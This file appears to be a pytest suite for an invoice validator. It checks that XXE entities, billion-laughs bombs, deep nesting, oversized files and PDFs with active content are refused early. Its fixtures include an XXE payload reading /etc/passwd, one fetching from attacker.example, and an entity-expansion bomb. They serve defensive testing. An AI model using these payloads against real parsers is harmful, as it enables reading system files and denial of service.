"""Stage a: hostile or oversized documents are refused early, with a clear finding."""

import importlib
import io
import tracemalloc

import pytest
from pypdf import PdfWriter
from pypdf.generic import NumberObject

from invoices import xmlsafe
from invoices.validation import validate, validate_path
from tests.invoices.factories import with_active_content

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&secret;</Invoice>"""
XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE Invoice [<!ENTITY remote SYSTEM "http://attacker.example/x">]>
<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2">&remote;</Invoice>"""
BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]><lolz>&lol9;</lolz>"
)


@pytest.mark.parametrize(
    "data",
    [
        XXE_FILE,
        XXE_HTTP,
        BILLION_LAUGHS,
        # A DOCTYPE hidden after a long comment, beyond any fixed-size look-ahead.
        b"<?xml version='1.0'?><!--" + b"x" * 10_000 + b"-->" + XXE_FILE.split(b"?>", 1)[1],
        b"\xef\xbb\xbf" + XXE_FILE,
    ],
    ids=["xxe-file", "xxe-http", "billion-laughs", "doctype-after-comment", "bom"],
)
def test_doctype_and_entities_are_refused_before_parsing(data):
    tracemalloc.start()
    report = validate(data, recipient_check=False)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert [f.rule for f in report.findings] == ["READ-XML-DOCTYPE"]
    assert report.findings[0].is_fatal
    assert "DOCTYPE" in report.findings[0].message_fr
    assert report.stages_run == ["reading"]
    assert peak < 5 * 1024 * 1024


def test_a_utf16_doctype_escaping_the_prolog_scan_is_refused_after_parsing():
    data = XXE_FILE.replace(b'<?xml version="1.0"?>', b'<?xml version="1.0" encoding="UTF-16"?>')

    with pytest.raises(xmlsafe.UnsafeXmlError) as refused:
        xmlsafe.parse(data.decode().encode("utf-16"))

    assert refused.value.code == "doctype"


def test_entities_are_never_expanded():
    with pytest.raises(xmlsafe.UnsafeXmlError) as refused:
        xmlsafe.parse(b"<Invoice>&undeclared;</Invoice>")
    assert refused.value.code == "syntax"


def test_deep_nesting_is_refused():
    depth = 100_000
    data = b"<a>" * depth + b"</a>" * depth

    report = validate(data, recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-XML-TOO-DEEP"]
    assert "imbrication" in report.findings[0].message_fr


def test_an_oversized_file_is_refused_without_being_read(tmp_path):
    path = tmp_path / "huge.xml"
    with path.open("wb") as handle:
        handle.truncate(200 * 1024 * 1024)  # 200 MB, sparse: nothing to read if refused first

    tracemalloc.start()
    report = validate_path(path, recipient_check=False)
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert [f.rule for f in report.findings] == ["READ-SIZE"]
    assert "120 Mo" in report.findings[0].message_fr
    assert peak < 5 * 1024 * 1024


def test_oversized_bytes_are_refused(monkeypatch):
    detect_module = importlib.import_module("invoices.formats.detect")
    monkeypatch.setattr(detect_module, "MAX_FILE_BYTES", 1000)

    report = validate(b"<Invoice>" + b" " * 2000 + b"</Invoice>", recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-SIZE"]


def test_a_pdf_declaring_a_200_mb_invoice_is_refused_before_decompression():
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    embedded = writer.add_attachment("factur-x.xml", b"<Invoice/>")
    embedded.size = NumberObject(200 * 1024 * 1024)  # declared, not real
    buffer = io.BytesIO()
    writer.write(buffer)

    report = validate(buffer.getvalue(), recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-SIZE"]


def test_malformed_xml_says_where():
    report = validate(b"<Invoice><cbc:ID>1</Invoice>", recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-XML-SYNTAX"]
    assert "line 1" in report.findings[0].message_fr


def test_an_unknown_document_is_refused_by_detection():
    report = validate(b"<order xmlns='urn:example'/>", recipient_check=False)

    assert report.format is None
    assert [f.rule for f in report.findings] == ["DETECT-FORMAT"]
    assert report.stages_run == ["reading", "detection"]


@pytest.mark.parametrize(
    ("data", "rule"),
    [(b"PK\x03\x04 zip bytes", "READ-NOT-XML-OR-PDF"), (b" \n", "READ-EMPTY")],
)
def test_neither_xml_nor_pdf_is_refused_when_reading(data, rule):
    report = validate(data, filename="facture.bin", recipient_check=False)

    assert [f.rule for f in report.findings] == [rule]
    assert "« facture.bin »" in report.findings[0].message_fr
    assert report.stages_run == ["reading"]


def test_two_million_empty_elements_are_refused_while_reading(settings):
    data = b"<Invoice>" + b"<a/>" * 2_000_000 + b"</Invoice>"  # 8 MB, under the size cap

    report = validate(data, recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-XML-TOO-MANY-ELEMENTS"]
    assert f"plus de {settings.XML_MAX_ELEMENTS} éléments" in report.findings[0].message_fr
    assert report.stages_run == ["reading"]


def test_the_element_cap_counts_every_element(settings):
    settings.XML_MAX_ELEMENTS = 100
    at_cap = b"<Invoice>" + b"<a/>" * 99 + b"</Invoice>"
    assert len(xmlsafe.parse(at_cap)) == 99
    with pytest.raises(xmlsafe.UnsafeXmlError) as refused:
        xmlsafe.parse(b"<Invoice>" + b"<a><b/></a>" * 50 + b"</Invoice>")
    assert refused.value.code == "too_many_elements"


@pytest.mark.parametrize(
    ("kind", "named"),
    [("javascript", "JavaScript"), ("launch", "Launch"), ("executable", "outil.exe")],
)
def test_a_facturx_with_active_content_is_refused(testdata_dir, kind, named):
    facturx = (testdata_dir / "facturx/other/akretion_invoice_EN16931_fr.pdf").read_bytes()
    assert validate(facturx, recipient_check=False).valid

    report = validate(with_active_content(facturx, kind), recipient_check=False)

    assert [f.rule for f in report.findings] == ["READ-PDF-ACTIVE"]
    assert f"contenu actif ({named})" in report.findings[0].message_fr
    assert "interdits par PDF/A" in report.findings[0].message_fr
